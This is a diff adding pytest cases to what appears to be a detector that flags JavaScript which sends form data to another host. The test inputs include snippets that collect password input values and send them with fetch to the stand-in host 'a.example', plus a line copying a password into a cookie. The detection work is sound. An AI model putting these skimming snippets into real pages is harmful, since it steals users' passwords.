@@ -30,6 +30,27 @@ def test_members_of_an_object_are_told_apart(code: str, is_sent: bool) -> None:
     assert bool(channels(TAKEN + code)) is is_sent
 
 
+@pytest.mark.parametrize(
+    "taken",
+    [
+        "Array.from(f).map(function (e) { return e.value; })",
+        "Array.from(f, function (e) { return e.value; })",
+        "[...f].map(e => e.value)",
+        "[].map.call(f, function (e) { return e.value; })",
+        "Array.prototype.slice.call(f).map(function (e) { return e.value; })",
+    ],
+)
+@pytest.mark.parametrize("kind", ["password", "text"])
+def test_the_elements_of_a_list(taken: str, kind: str) -> None:
+    code = f"var f = document.querySelectorAll('input[type={kind}]'); fetch('//a.example', {{ body: {taken}.join() }});"
+    assert bool(channels(code)) is (kind == "password")
+
+
+def test_a_loop_over_a_list_of_elements() -> None:
+    code = "var s = ''; for (var e of document.querySelectorAll('input[type=password]')) s += e.value;"
+    assert channels(code + "fetch('//a.example/' + s);")
+
+
 _KEPT = 'document.cookie = "p=" + document.getElementById("pw").value;'
 
 
